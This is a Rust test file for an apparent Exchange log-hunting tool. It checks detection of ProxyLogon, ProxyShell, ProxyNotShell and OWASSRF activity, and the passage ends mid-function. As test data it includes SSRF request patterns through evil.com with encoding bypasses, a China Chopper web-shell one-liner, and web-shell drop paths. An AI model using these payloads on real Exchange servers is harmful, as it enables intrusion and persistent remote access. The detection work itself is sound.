//! Each check on positive, negative and near-miss lines, written into real log files and run
//! through the whole engine (classification, prefilter, field split, check).

use exhunt_checks::{Engine, ScanOptions};
use exhunt_model::{Finding, Stage};

// Correlation of one request across logs, attribution and outcomes: a module of this binary
// (every integration-test binary links yara-x).
#[path = "checks/correlation.rs"]
mod correlation;
// The event rules (Sigma on Windows events, the process tree): a module of this binary, which
// was a binary of its own linking yara-x and wasmtime again.
#[path = "checks/event_rules.rs"]
mod event_rules;

const PROXY_FIELDS: &str = "DateTime,RequestId,Protocol,UrlStem,AuthenticationType,IsAuthenticated,AuthenticatedUser,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,Method,RoutingHint,BackEndCookie,UrlQuery";

/// One HttpProxy line from named values (others empty).
fn proxy(values: &[(&str, &str)]) -> String {
    PROXY_FIELDS
        .split(',')
        .map(|f| {
            let v = values
                .iter()
                .find(|(k, _)| *k == f)
                .map(|(_, v)| *v)
                .unwrap_or("");
            if f == "DateTime" && v.is_empty() {
                "2021-03-03T02:14:05.585Z"
            } else {
                v
            }
        })
        .map(|v| {
            if v.contains(',') {
                format!("\"{}\"", v.replace('"', "\"\""))
            } else {
                v.to_string()
            }
        })
        .collect::<Vec<_>>()
        .join(",")
}

fn proxy_file(lines: &[String]) -> String {
    let mut s = format!(
        "{PROXY_FIELDS}\r\n#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: HttpProxy Logs\r\n#Date: 2021-03-03T02:00:00.000Z\r\n#Fields: {PROXY_FIELDS}\r\n"
    );
    for l in lines {
        s.push_str(l);
        s.push_str("\r\n");
    }
    s
}

const IIS_FIELDS: &str = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken";

fn iis_file(lines: &[&str]) -> String {
    let mut s = format!(
        "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-03-03 00:00:00\r\n#Fields: {IIS_FIELDS}\r\n"
    );
    for l in lines {
        s.push_str(l);
        s.push_str("\r\n");
    }
    s
}

fn ecp_file(events: &[&str]) -> String {
    let mut s = String::from(
        "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: ECP Server Log\r\n#Date: 2021-03-03T00:00:00.000Z\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n",
    );
    for e in events {
        s.push_str(&format!("2021-03-03T02:15:41.232Z,EX01,ECP.Request,\"S:ACTID=1;S:URL=/ecp/DDI/DDIService.svc/SetObject;S:CMD={}\"\r\n", e.replace('"', "\"\"")));
    }
    s
}

fn oab_file(lines: &[&str]) -> String {
    let mut s =
        String::from("#Software: Microsoft Exchange Server\r\n#Log-type: OABGenerator Log\r\n");
    for l in lines {
        s.push_str(&format!(
            "2021-03-03T02:30:11.120Z,OABGeneratorAssistant,Warning,\"{l}\"\r\n"
        ));
    }
    s
}

/// Scans one file (named so it is recognised by content, not path) and returns its findings.
fn scan_one(name: &str, text: &str, opts: ScanOptions) -> Vec<Finding> {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::write(tmp.path().join(name), text).unwrap();
    let engine = Engine::new(opts).unwrap();
    let r = engine.scan(&[tmp.path().to_path_buf()]);
    let s = &r.servers[0];
    assert!(
        s.coverage.skipped.is_empty(),
        "{name} was not claimed: {:?}",
        s.coverage.skipped
    );
    s.findings.clone()
}

fn scan(name: &str, text: &str) -> Vec<Finding> {
    scan_one(name, text, ScanOptions::default())
}

fn ids(f: &[Finding]) -> Vec<(&str, Stage)> {
    f.iter().map(|f| (f.rule_id.as_str(), f.stage)).collect()
}

// ---- C-26855-A / C-26855-C: the ServerInfo anchor ----

#[test]
fn serverinfo_ssrf_success_attempt_autodiscover_and_scanner() {
    let success = proxy(&[
        (
            "AnchorMailbox",
            "ServerInfo~a]@EX01.contoso.local:444/ecp/proxyLogon.ecp?#",
        ),
        ("HttpStatus", "241"),
        ("UrlStem", "/ecp/y.js"),
        ("ClientIpAddress", "192.0.2.66"),
        ("Method", "POST"),
    ]);
    let refused = proxy(&[
        (
            "AnchorMailbox",
            "ServerInfo~a]@EX01:444/ecp/DDI/DDIService.svc/GetObject#",
        ),
        ("HttpStatus", "500"),
    ]);
    let autodiscover = proxy(&[
        (
            "AnchorMailbox",
            "ServerInfo~a]@EX01:444/autodiscover/autodiscover.xml?#",
        ),
        ("HttpStatus", "200"),
    ]);
    let scanner = proxy(&[
        ("AnchorMailbox", "ServerInfo~localhost/ecp/default.flt?"),
        ("UrlStem", "/owa/auth/x.js"),
        ("HttpStatus", "500"),
        ("RoutingHint", "X-AnonResource-Backend-Cookie"),
    ]);
    let nuclei = proxy(&[
        (
            "AnchorMailbox",
            "ServerInfo~c2vhbs.oast.fun/ecp/default.flt?",
        ),
        ("UrlStem", "/owa/auth/x.js"),
        ("HttpStatus", "500"),
    ]);
    let normal = proxy(&[
        ("AnchorMailbox", "Smtp~alice@contoso.com"),
        ("HttpStatus", "200"),
        ("AuthenticatedUser", "CONTOSO\\alice"),
    ]);
    let f = scan(
        "a.log",
        &proxy_file(&[success, refused, autodiscover, scanner, nuclei, normal]),
    );
    assert_eq!(
        ids(&f),
        vec![
            ("EXH-PL-1", Stage::ExploitSuccess),
            ("EXH-PL-1", Stage::ExploitAttempt),
            ("EXH-PL-1", Stage::ExploitAttempt),
            ("EXH-PL-3", Stage::Scan),
            ("EXH-PL-3", Stage::Scan),
        ]
    );
    assert_eq!(f[0].entities.client_ip.as_deref(), Some("192.0.2.66"));
    assert_eq!(
        f[0].entities.target.as_deref(),
        Some("a]@EX01.contoso.local:444/ecp/proxyLogon.ecp?#")
    );
    assert_eq!(f[0].evidence.line, 7);
    assert!(
        f[2].title.contains("autodiscover"),
        "autodiscover-only hits are kept as attempts"
    );
}

#[test]
fn serverinfo_anchor_is_found_whatever_the_case_and_column_order() {
    let fields = "AnchorMailbox,HttpStatus,DateTime,UrlStem";
    let text = format!(
        "#Log-type: HttpProxy Logs\r\n#Fields: {fields}\r\nSERVERINFO~a]@ex:444/mapi/emsmdb/?#,200,2021-03-03T02:14:09.088Z,/ecp/y.js\r\n"
    );
    let f = scan("renamed.txt", &text);
    assert_eq!(ids(&f), vec![("EXH-PL-1", Stage::ExploitSuccess)]);
    assert_eq!(
        f[0].timestamp.unwrap().to_rfc3339(),
        "2021-03-03T02:14:09.088+00:00"
    );
}

// ---- C-27065-B through the SSRF ----

#[test]
fn reset_virtual_directory_through_the_ssrf() {
    let reset = proxy(&[
        (
            "AnchorMailbox",
            "ServerInfo~a]@EX01:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=x#",
        ),
        ("HttpStatus", "200"),
    ]);
    let failed = proxy(&[
        (
            "AnchorMailbox",
            "ServerInfo~a]@EX01:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#",
        ),
        ("HttpStatus", "500"),
    ]);
    let f = scan("a.log", &proxy_file(&[reset, failed]));
    assert_eq!(
        ids(&f),
        vec![
            ("EXH-PL-1", Stage::ExploitSuccess),
            ("EXH-PL-7", Stage::Persistence),
            ("EXH-PL-1", Stage::ExploitAttempt)
        ]
    );
}

// ---- C-26855-B: BackEndCookie ----

#[test]
fn backend_cookie_with_a_path_but_not_a_normal_cookie() {
    let ssrf = proxy(&[
        (
            "BackEndCookie",
            "Server~ex01.contoso.local/ecp/DDI/x.svc?~1941962753",
        ),
        ("HttpStatus", "200"),
    ]);
    let normal = proxy(&[
        (
            "BackEndCookie",
            "Server~ex01.contoso.local~1941962753~2021-03-20T10:11:12",
        ),
        ("HttpStatus", "200"),
    ]);
    let probe = proxy(&[
        ("BackEndCookie", "Server~localhost/owa/auth/logon.aspx?~3"),
        ("HttpStatus", "500"),
    ]);
    let f = scan("a.log", &proxy_file(&[ssrf, normal, probe]));
    assert_eq!(
        ids(&f),
        vec![
            ("EXH-PL-2", Stage::ExploitSuccess),
            ("EXH-PL-3", Stage::Scan)
        ]
    );
}

// ---- C-26855-D: IIS request patterns ----

#[test]
fn iis_exploit_patterns_and_near_misses() {
    let f = scan(
        "u_ex210303.log",
        &iis_file(&[
            "2021-03-03 02:14:05 10.1.0.10 POST /ecp/y.js - 443 - 192.0.2.66 Mozilla/5.0 - 200 0 0 460",
            "2021-03-03 02:14:06 10.1.0.10 POST /ecp/abc.js - 443 - 192.0.2.66 Mozilla/5.0 - 404 0 0 12",
            "2021-03-03 02:14:07 10.1.0.10 POST /owa/auth/Current/themes/resources/logon.css - 443 - 192.0.2.66 Mozilla/5.0 - 200 0 0 12",
            "2021-03-03 02:14:08 10.1.0.10 GET /rpc/ &CorrelationID=<empty>;&RequestId=ab 443 - 192.0.2.66 - - 200 0 0 12",
            "2021-03-03 02:14:09 10.1.0.10 GET /owa/auth/x.js - 443 - 10.1.0.15 Nmap - 500 0 0 3",
            // near misses: legitimate ECP and OWA traffic
            "2021-03-03 09:00:00 10.1.0.10 POST /ecp/DDI/DDIService.svc/GetList schema=MailboxService 443 CONTOSO\\exadmin 10.1.0.15 Mozilla/5.0 - 200 0 0 40",
            "2021-03-03 09:00:01 10.1.0.10 GET /ecp/y.js - 443 - 10.1.0.15 Mozilla/5.0 - 404 0 0 3",
            "2021-03-03 09:00:02 10.1.0.10 POST /ecp/abcd.js - 443 - 10.1.0.15 Mozilla/5.0 - 404 0 0 3",
            "2021-03-03 09:00:03 10.1.0.10 GET /owa/auth/logon.aspx url=x 443 - 10.1.0.15 Mozilla/5.0 - 200 0 0 3",
        ]),
    );
    assert_eq!(
        ids(&f),
        vec![
            ("EXH-PL-4", Stage::ExploitSuccess),
            ("EXH-PL-4", Stage::ExploitAttempt),
            ("EXH-PL-4", Stage::ExploitSuccess),
            ("EXH-PL-4", Stage::ExploitSuccess),
            ("EXH-PL-3", Stage::Scan),
        ]
    );
    assert_eq!(f[0].entities.url.as_deref(), Some("/ecp/y.js"));
    assert_eq!(f[0].entities.status, Some(200));
}

// ---- C-26858-A: OAB generator download path ----

#[test]
fn oab_download_outside_clientaccess_oab_but_not_a_healthy_one() {
    let bad = "Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\e3f1a9c2.aspx' needs to be removed";
    let unc = "Download failed and temporary file '\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\x.aspx' needs to be removed";
    let healthy = "Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\9f1c.lzx' needs to be removed";
    let other = "OABGenerator generation of OAB 'Default Offline Address Book' started";
    let f = scan(
        "OABGeneratorLog_20210303-1.LOG",
        &oab_file(&[bad, unc, healthy, other]),
    );
    assert_eq!(
        ids(&f),
        vec![
            ("EXH-PL-5", Stage::Persistence),
            ("EXH-PL-5", Stage::Persistence)
        ]
    );
    assert_eq!(
        f[0].entities.file_path.as_deref(),
        Some("C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\e3f1a9c2.aspx")
    );

    // With the install elsewhere, the default path is no longer the healthy one.
    let opts = ScanOptions {
        exchange_path: Some("D:\\Exchange\\V15".into()),
        ..ScanOptions::default()
    };
    let moved = "Download failed and temporary file 'D:\\Exchange\\V15\\ClientAccess\\OAB\\Temp\\1.lzx' needs to be removed";
    let f = scan_one(
        "OABGeneratorLog_20210303-1.LOG",
        &oab_file(&[moved, healthy]),
        opts,
    );
    assert_eq!(f.len(), 1);
    assert!(f[0].title.contains("C:\\Program Files"));
}

// ---- C-27065-A: ECP virtual-directory URL with markup ----

/// The China Chopper one-liner of the HAFNIUM ExternalUrl, built from pieces so the source file
/// holds no signature antivirus would flag.
fn chopper() -> String {
    let (a, b, c) = (
        "<scr",
        "ipt language=\"JScript\" runat=\"server\">function Page_Load(){ev",
        "al(Request[\"k\"],\"unsa",
    );
    format!("http://f/{a}{b}{c}fe\");}}</script>")
}

#[test]
fn ecp_set_virtual_directory_with_script_but_not_an_admin_change() {
    let planted = format!(
        "Set-OabVirtualDirectory.ExternalUrl='{}'.Identity='EX01\\OAB (Default Web Site)'",
        chopper()
    );
    let internal = "Set-OabVirtualDirectory.Identity='x'.InternalUrl='http://f/<%@ Page Language=\"Jscript\"%>'";
    let admin = "Set-OabVirtualDirectory.Identity='EX01\\OAB (Default Web Site)'.ExternalUrl='https://mail.contoso.com/OAB'";
    let other = "Set-Mailbox.Identity='contoso.com/Users/Alice'.ProhibitSendQuota='49 GB'";
    let f = scan(
        "ECPServer20210303-1.LOG",
        &ecp_file(&[&planted, internal, admin, other]),
    );
    assert_eq!(
        ids(&f),
        vec![
            ("EXH-PL-6", Stage::Persistence),
            ("EXH-PL-6", Stage::Persistence)
        ]
    );
    assert!(
        f[0].entities
            .target
            .as_deref()
            .unwrap()
            .starts_with("ExternalUrl=http://f/<script")
    );
    assert!(f[1].title.contains("InternalUrl"));
    assert_eq!(f[0].entities.server.as_deref(), Some("EX01"));
}

#[test]
fn ecp_reset_to_a_web_root_but_not_to_a_backup_folder() {
    let shell = "Reset-OabVirtualDirectory.Identity='EX01\\OAB (Default Web Site)'.FilePathName='\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\discover.aspx'";
    let backup = "Reset-OabVirtualDirectory.Identity='EX01\\OAB (Default Web Site)'.FilePathName='D:\\backup\\oab-settings.txt'";
    let f = scan("ECPServer20210303-1.LOG", &ecp_file(&[shell, backup]));
    assert_eq!(ids(&f), vec![("EXH-PL-8", Stage::Persistence)]);
    assert_eq!(
        f[0].entities.file_path.as_deref(),
        Some("\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\discover.aspx")
    );
}

// ---- IOC packs ----

#[test]
fn hafnium_ips_match_the_field_not_a_substring() {
    let f = scan(
        "u_ex210303.log",
        &iis_file(&[
            "2021-03-03 02:14:05 10.1.0.10 GET /owa/ - 443 - 104.140.114.110 Mozilla/5.0 - 302 0 0 4",
            "2021-03-03 02:14:06 10.1.0.10 GET /owa/ - 443 - 15.254.43.180 Mozilla/5.0 - 302 0 0 4",
        ]),
    );
    assert_eq!(ids(&f), vec![("EXH-IOC-1", Stage::ExploitAttempt)]);
}

#[test]
fn hafnium_user_agents_on_posts_and_tools_but_not_real_crawlers() {
    let f = scan(
        "u_ex210303.log",
        &iis_file(&[
            "2021-03-03 02:14:05 10.1.0.10 POST /owa/auth/Current/x - 443 - 192.0.2.1 Mozilla/5.0+(compatible;+Baiduspider/2.0;++http://www.baidu.com/search/spider.html) - 200 0 0 4",
            "2021-03-03 02:14:06 10.1.0.10 GET /aspnet_client/a.aspx - 443 - 192.0.2.1 antSword/v2.1 - 200 0 0 4",
            "2021-03-03 02:14:07 10.1.0.10 GET /owa/ - 443 - 66.249.66.1 Googlebot/2.1+(+http://www.googlebot.com/bot.html) - 302 0 0 4",
            "2021-03-03 02:14:08 10.1.0.10 GET /ews/ - 443 - 192.0.2.9 python-requests/2.25.1 - 401 0 0 4",
        ]),
    );
    assert_eq!(
        ids(&f),
        vec![
            ("EXH-IOC-2", Stage::ExploitAttempt),
            ("EXH-IOC-2", Stage::ExploitAttempt)
        ]
    );
    assert!(f[0].title.contains("Baiduspider"));
    // HttpProxy writes the same agent with spaces instead of '+'.
    let line = proxy(&[
        (
            "UserAgent",
            "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
        ),
        ("Method", "POST"),
        ("UrlStem", "/owa/auth/Current/themes/resources/logon.css"),
    ]);
    let f = scan("a.log", &proxy_file(&[line]));
    assert_eq!(ids(&f), vec![("EXH-IOC-2", Stage::ExploitAttempt)]);
}

// ---- the catalogue ----

#[test]
fn every_check_has_metadata_and_every_rule_a_check() {
    let engine = Engine::new(ScanOptions::default()).unwrap();
    let emitted = engine.rule_ids();
    let catalogue: Vec<&str> = engine
        .pack()
        .rules()
        .iter()
        .map(|r| r.id.as_str())
        .collect();
    for id in &emitted {
        assert!(
            catalogue.contains(id),
            "{id} has no entry in rules/checks.toml"
        );
    }
    for id in &catalogue {
        assert!(
            emitted.contains(id),
            "rules/checks.toml lists {id}, which no check emits"
        );
    }
}

#[test]
fn time_filter_drops_records_outside_the_range() {
    let early = proxy(&[
        ("DateTime", "2021-03-01T00:00:00.000Z"),
        ("AnchorMailbox", "ServerInfo~a]@EX01:444/ecp/x.ecp?#"),
        ("HttpStatus", "200"),
    ]);
    let late = proxy(&[
        ("DateTime", "2021-03-04T00:00:00.000Z"),
        ("AnchorMailbox", "ServerInfo~a]@EX01:444/ecp/x.ecp?#"),
        ("HttpStatus", "200"),
    ]);
    let since = exhunt_sources::time::parse_bound("2021-03-02").unwrap();
    let f = scan_one(
        "a.log",
        &proxy_file(&[early, late]),
        ScanOptions {
            since: Some(since),
            ..ScanOptions::default()
        },
    );
    assert_eq!(f.len(), 1);
    assert_eq!(
        f[0].timestamp.unwrap().to_rfc3339(),
        "2021-03-04T00:00:00+00:00"
    );
}

// ---- C-PS-A, C-PNS-A/B/C: autodiscover.json SSRF and OWASSRF ----

#[test]
fn proxyshell_autodiscover_ssrf_with_bypass_variants_and_near_misses() {
    let f = scan(
        "u_ex210809.log",
        &iis_file(&[
            // The ProxyShell chain: MAPI/NSPI leak, then the PowerShell back end with X-Rps-CAT.
            "2021-08-09 01:00:01 10.1.0.10 POST /autodiscover/autodiscover.json @evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com 443 - 198.51.100.7 python-requests/2.26.0 - 200 0 0 80",
            "2021-08-09 01:00:02 10.1.0.10 POST /autodiscover/autodiscover.json @evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.com 443 - 198.51.100.7 python-requests/2.26.0 - 200 0 0 90",
            // Bypasses of raw-URL patterns: encoded letters, double encoding, mixed case.
            "2021-08-09 01:00:03 10.1.0.10 POST /AutoDiscover/AutoDiscover.JSON @evil.com/%50owershell/?&Email=AutoDiscover/AutoDiscover.json%253F@evil.com 443 - 198.51.100.7 - - 200 0 0 90",
            // Refused: an attempt.
            "2021-08-09 01:00:04 10.1.0.10 GET /autodiscover/autodiscover.json @evil.com/owa/?&Email=autodiscover/autodiscover.json%3F@evil.com 443 - 198.51.100.8 - - 401 0 0 3",
            // A scanner's probe (nuclei's test domain).
            "2021-08-09 01:00:05 10.1.0.10 GET /autodiscover/autodiscover.json @test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com 443 - 198.51.100.9 Mozilla/5.0 - 302 0 0 3",
            // Near misses: ordinary autodiscover.json lookups of Outlook mobile.
            "2021-08-09 09:00:00 10.1.0.10 GET /autodiscover/autodiscover.json Email=alice%40contoso.com&Protocol=ActiveSync&RedirectCount=1 443 - 203.0.113.5 Outlook-iOS/2.0 - 200 0 0 12",
            "2021-08-09 09:00:01 10.1.0.10 GET /autodiscover/autodiscover.json/v1.0/bob@contoso.com Protocol=REST 443 - 203.0.113.5 Outlook-Android/2.0 - 200 0 0 12",
        ]),
    );
    assert_eq!(
        ids(&f),
        vec![
            ("EXH-PS-1", Stage::ExploitSuccess),
            ("EXH-PS-1", Stage::ExploitSuccess),
            ("EXH-PS-1", Stage::ExploitSuccess),
            ("EXH-PS-1", Stage::ExploitAttempt),
            ("EXH-PS-1", Stage::Scan),
        ],
        "{f:#?}"
    );
    assert!(
        f.iter()
            .all(|x| x.campaign == exhunt_model::Campaign::ProxyShell)
    );
    assert!(
        f[2].title.contains("@evil.com/powershell"),
        "{}",
        f[2].title
    );
}

#[test]
fn proxynotshell_and_owassrf_with_bypass_variants_and_near_misses() {
    let f = scan(
        "u_ex221003.log",
        &iis_file(&[
            // Authenticated SSRF to the PowerShell back end (ProxyNotShell).
            "2022-10-03 01:00:01 10.1.0.10 POST /autodiscover/autodiscover.json @evil.com/powershell/?Email=autodiscover/autodiscover.json%3F@evil.com 443 CONTOSO\\alice 198.51.100.7 python-requests/2.28.1 - 200 0 0 80",
            // The EOMTv2 bypass: PowerShell encoded, mixed case.
            "2022-10-03 01:00:02 10.1.0.10 POST /autodiscover/autodiscover.json @evil.com/%50oWeRsHeLl/?&Email=autodiscover/autodiscover.json%3F@evil.com 443 alice@contoso.com 198.51.100.7 - - 200 0 0 80",
            // The public ProxyNotShell checker's request (nuclei's test mailbox a@foo.var, here in
            // its a..foo.var form, PowerShell encoded), even logged in and answered: a scan.
            "2022-10-03 01:00:03 10.1.0.10 POST /autodiscover/autodiscover.json a..foo.var/owa/?&Email=autodiscover/autodiscover.json%3Fa..foo.var&Protocol=XYZ&FooProtocol=%50oWeRsHeLl 443 alice@contoso.com 198.51.100.7 - - 200 0 0 80",
            // OWASSRF: through OWA, '@' encoded.
            "2022-12-20 03:00:00 10.1.0.10 POST /owa/mastermailbox%40outlook.com/powershell - 443 CONTOSO\\alice 198.51.100.7 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+Chrome/105.0.0.0 - 200 0 0 80",
            // Refused OWASSRF.
            "2022-12-20 03:00:01 10.1.0.10 POST /owa/mastermailbox@outlook.com/PowerShell - 443 CONTOSO\\alice 198.51.100.7 Mozilla/5.0 - 401 0 0 3",
            // Near misses: Exchange's own remote PowerShell and OWA traffic.
            "2022-12-20 09:00:00 10.1.0.10 POST /powershell clientApplication=ActiveMonitor 443 CONTOSO\\HealthMailbox1 10.1.0.10 Microsoft+WinRM+Client - 200 0 0 50",
            "2022-12-20 09:00:01 10.1.0.10 POST /owa/service.svc action=GetItem 443 CONTOSO\\alice 203.0.113.5 Mozilla/5.0 - 200 0 0 50",
            "2022-12-20 09:00:02 10.1.0.10 POST /owa/alice@contoso.com/powershell - 443 CONTOSO\\alice 10.1.0.10 ClientInfo - 200 0 0 50",
        ]),
    );
    assert_eq!(
        ids(&f),
        vec![
            ("EXH-PNS-1", Stage::ExploitSuccess),
            ("EXH-PNS-1", Stage::ExploitSuccess),
            ("EXH-PNS-1", Stage::Scan),
            ("EXH-PNS-2", Stage::ExploitSuccess),
            ("EXH-PNS-2", Stage::ExploitAttempt),
        ],
        "{f:#?}"
    );
    assert!(
        f.iter()
            .all(|x| x.campaign == exhunt_model::Campaign::ProxyNotShell)
    );
}

#[test]
fn proxyshell_in_httpproxy_autodiscover_logs_with_bypasses() {
    let ssrf = proxy(&[
        ("DateTime", "2021-08-09T01:00:01.000Z"),
        ("Protocol", "Autodiscover"),
        ("UrlStem", "/autodiscover/autodiscover.json"),
        (
            "UrlQuery",
            "?@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com",
        ),
        ("ClientIpAddress", "198.51.100.7"),
        ("UserAgent", "python-requests/2.26.0"),
        ("HttpStatus", "200"),
        ("Method", "POST"),
    ]);
    let bypass = proxy(&[
        ("DateTime", "2021-08-09T01:00:02.000Z"),
        ("Protocol", "Autodiscover"),
        ("UrlStem", "/AutoDiscover/AutoDiscover.JSON"),
        (
            "UrlQuery",
            "?@evil.com/%50owershell/?X-Rps-CAT=VgEA&Email=AutoDiscover/AutoDiscover.json%253F@evil.com",
        ),
        ("ClientIpAddress", "198.51.100.7"),
        ("HttpStatus", "200"),
        ("Method", "POST"),
    ]);
    let refused = proxy(&[
        ("DateTime", "2021-08-09T01:00:03.000Z"),
        ("Protocol", "Autodiscover"),
        ("UrlStem", "/autodiscover/autodiscover.json"),
        (
            "UrlQuery",
            "?@evil.com/owa/?&Email=autodiscover/autodiscover.json%3F@evil.com",
        ),
        ("HttpStatus", "400"),
        ("Method", "GET"),
    ]);
    // Outlook's ordinary autodiscover.json lookup.
    let normal = proxy(&[
        ("Protocol", "Autodiscover"),
        (
            "UrlStem",
            "/autodiscover/autodiscover.json/v1.0/alice@contoso.com",
        ),
        ("UrlQuery", "?Protocol=ActiveSync&RedirectCount=1"),
        ("HttpStatus", "200"),
        ("Method", "GET"),
    ]);
    let f = scan(
        "HttpProxy_2021080901-1.LOG",
        &proxy_file(&[ssrf, bypass, refused, normal]),
    );
    assert_eq!(
        ids(&f),
        vec![
            ("EXH-PS-1", Stage::ExploitSuccess),
            ("EXH-PS-1", Stage::ExploitSuccess),
            ("EXH-PS-1", Stage::ExploitAttempt),
        ],
        "{f:#?}"
    );
    assert!(
        f[1].title.contains("@evil.com/powershell"),
        "{}",
        f[1].title
    );
    assert_eq!(f[0].kind, exhunt_model::ArtefactKind::HttpProxyLog);
}

const RPS_FIELDS: &str = "DateTime,StartTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,UrlHost,UrlStem,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,ManagedOrganization,ClientIpAddress,ServerHostName,FrontEndServer,HttpStatus,SubStatus,ErrorCode,Action,CommandId,CommandName,SessionId,ShellId,FailFast,ContributeToFailFast,RequestBytes,ClientInfo,CPU,Memory,ActivityContextLifeTime,TotalTime,UrlQuery,GenericLatency,GenericInfo,GenericErrors";

fn rps(user: &str, status: &str, client: &str, command: &str) -> String {
    RPS_FIELDS
        .split(',')
        .map(|f| match f {
            "DateTime" | "StartTime" => "2022-12-20T03:00:05.123Z".to_string(),
            "UrlStem" => "/PowerShell".into(),
            "UrlHost" => "ex01.contoso.com".into(),
            "AuthenticatedUser" => user.into(),
            "ClientIpAddress" => "198.51.100.7".into(),
            "ServerHostName" => "EX01".into(),
            "FrontEndServer" => "EX02.contoso.com".into(),
            "HttpStatus" => status.into(),
            "CommandName" => command.into(),
            "ClientInfo" => client.into(),
            _ => String::new(),
        })
        .map(|v| {
            if v.contains(',') {
                format!("\"{v}\"")
            } else {
                v
            }
        })
        .collect::<Vec<_>>()
        .join(",")
}

#[test]
fn rps_http_sessions_of_foreign_clients_but_not_exchange_own() {
    let mut text = format!(
        "{RPS_FIELDS}\r\n#Software: Microsoft Exchange Server\r\n#Version: 15.02.0986.005\r\n#Log-type: Rps Http Logs\r\n#Date: 2022-12-20T03:00:00.000Z\r\n#Fields: {RPS_FIELDS}\r\n"
    );
    for l in [
        // OWASSRF: a browser user agent opens remote PowerShell, served.
        rps(
            "alice@contoso.com",
            "200",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/105.0.0.0",
            "New-MailboxExportRequest",
        ),
        // A script client refused.
        rps("alice@contoso.com", "500", "python-requests/2.28.1", ""),
        // Exchange's own: management shell (any case), monitoring probes, empty.
        rps(
            "admin@contoso.com",
            "200",
            "Microsoft WinRM Client",
            "Get-Mailbox",
        ),
        rps(
            "HealthMailbox1@contoso.com",
            "200",
            "exchange backend probes",
            "",
        ),
        rps("admin@contoso.com", "200", "", ""),
        // The header row repeated inside the file.
        RPS_FIELDS.to_string(),
    ] {
        text.push_str(&l);
        text.push_str("\r\n");
    }
    let f = scan("Rps_Http_2022122003-1.LOG", &text);
    assert_eq!(
        ids(&f),
        vec![
            ("EXH-PNS-3", Stage::ExploitSuccess),
            ("EXH-PNS-3", Stage::ExploitAttempt),
        ],
        "{f:#?}"
    );
    assert!(
        f[0].title.contains("alice@contoso.com") && f[0].title.contains("Chrome/105"),
        "{}",
        f[0].title
    );
    assert!(
        f[0].title
            .contains("198.51.100.7 → front end EX02.contoso.com → back end EX01"),
        "{}",
        f[0].title
    );
    assert!(
        f[0].title.contains("New-MailboxExportRequest"),
        "{}",
        f[0].title
    );
    assert_eq!(f[0].kind, exhunt_model::ArtefactKind::RpsHttpLog);
    assert!(
        f.iter()
            .all(|x| x.campaign == exhunt_model::Campaign::ProxyNotShell)
    );
}

// ---- C-PS-E: IIS virtual directories to odd folders ----

#[test]
fn iis_virtual_directories_to_programdata_or_profiles_but_not_exchange_own() {
    let config = r#"<?xml version="1.0" encoding="UTF-8"?>
<configuration>
  <configSections>
    <sectionGroup name="system.applicationHost"></sectionGroup>
  </configSections>
  <system.applicationHost>
    <sites>
      <site name="Default Web Site" id="1">
        <application path="/" applicationPool="DefaultAppPool">
          <virtualDirectory path="/" physicalPath="%SystemDrive%\inetpub\wwwroot" />
          <virtualDirectory path="/cdn" physicalPath="C:\ProgramData\COM\" />
        </application>
        <application path="/owa" applicationPool="MSExchangeOWAAppPool">
          <virtualDirectory path="/" physicalPath="C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa" />
        </application>
        <application path="/owa/auth/assets" applicationPool="MSExchangeOWAAppPool">
          <VirtualDirectory path="/" physicalPath="C:\Users\All Users\Microsoft\x" />
        </application>
      </site>
      <site name="Exchange Back End" id="2">
        <application path="/" applicationPool="MSExchangeServicesAppPool">
          <virtualDirectory path="/" physicalPath="C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess" />
        </application>
      </site>
    </sites>
  </system.applicationHost>
</configuration>
"#;
    let f = scan("applicationHost.config", config);
    assert_eq!(
        ids(&f),
        vec![
            ("EXH-PS-2", Stage::Persistence),
            ("EXH-PS-2", Stage::Persistence)
        ],
        "{f:#?}"
    );
    assert!(
        f[0].title.contains("/cdn") && f[0].title.contains("Default Web Site"),
        "{}",
        f[0].title
    );
    assert_eq!(f[0].confidence, exhunt_model::Confidence::High);
    assert_eq!(f[0].evidence.line, 11);
    assert!(f[1].title.contains("/owa/auth/assets"), "{}", f[1].title);
    assert_eq!(f[1].confidence, exhunt_model::Confidence::Medium);
    assert!(
        f.iter()
            .all(|x| x.kind == exhunt_model::ArtefactKind::IisConfig)
    );
}

#[test]
fn clean_exchange_iis_configurations_give_no_finding() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/data/microsoft_CSS-Exchange/Diagnostics/HealthChecker/Tests/DataCollection");
    if !dir.is_dir() {
        eprintln!("skipped: {} is absent", dir.display());
        return;
    }
    for v in ["E16", "E19"] {
